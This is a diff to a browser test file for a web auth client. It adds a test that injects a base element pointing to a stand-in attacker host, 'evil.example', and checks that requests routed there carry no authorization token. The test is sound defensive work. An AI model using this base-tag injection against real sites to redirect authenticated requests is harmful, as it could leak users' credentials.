@@ -1,6 +1,32 @@
 import { expect, test } from './support/test.js';
 import { ADA, Tab } from './support/tab.js';
 
+test('a base of another origin gets neither a token nor a password', async ({ browser, start }) => {
+    const service = await start({});
+    // The service's pages forbid such a base by their content security policy.
+    const context = await browser.newContext({ bypassCSP: true });
+    const evil = 'http://evil.example';
+    const sent: Record<string, string>[] = [];
+    await context.route(`${evil}/**`, async (route) => {
+        sent.push({ path: new URL(route.request().url()).pathname, ...(await route.request().allHeaders()) });
+        await route.fulfill({ json: {}, headers: { 'access-control-allow-origin': '*' } });
+    });
+    const tab = await Tab.open(context, service.url, { baseUrl: '/' });
+    await tab.page.evaluate((href) => {
+        document.head.append(Object.assign(document.createElement('base'), { href }));
+    }, `${evil}/`);
+    await tab.signUp();
+    await tab.page.evaluate(async () => {
+        await window.auth.fetch('orders');
+        const frame = document.body.appendChild(document.createElement('iframe'));
+        const { Request } = frame.contentWindow as typeof globalThis.window & typeof globalThis;
+        await window.auth.fetch(new Request('http://evil.example/of-a-frame'));
+    });
+    expect(sent.map(({ path }) => path)).toEqual(['/orders', '/of-a-frame']);
+    expect(sent.filter((headers) => 'authorization' in headers)).toEqual([]);
+    expect(await tab.page.evaluate(async () => (await window.auth.me()).email)).toBe(ADA.email);
+});
+
 test('a logout in one tab signs the others out', async ({ context, start }) => {
     const service = await start({});
     const [one, two, three] = [
